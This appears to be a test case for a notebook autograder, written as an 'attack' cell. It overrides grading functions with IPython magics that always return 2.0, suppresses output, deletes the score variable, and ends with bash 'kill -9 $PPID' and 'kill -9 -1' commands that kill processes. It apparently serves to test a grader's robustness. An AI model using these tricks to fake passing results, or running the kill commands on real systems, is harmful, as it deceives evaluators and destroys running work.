# attack: loads extensions and magics that change how cells run
# points: double=0 total=4
# says: the end of the attack
# %% double
from IPython.core.magic import register_cell_magic, register_line_magic
def double(x): return x
@register_line_magic
def check(line): return 2.0
@register_cell_magic
def time(line, cell): return 2.0
get_ipython().run_line_magic("config", "InteractiveShell.ast_node_interactivity = 'none'")
get_ipython().run_line_magic("reset_selective", "-f total")
print("the end of the attack")
# %%
%alias check echo 2.0
%%script bash
kill -9 $PPID
kill -9 -1
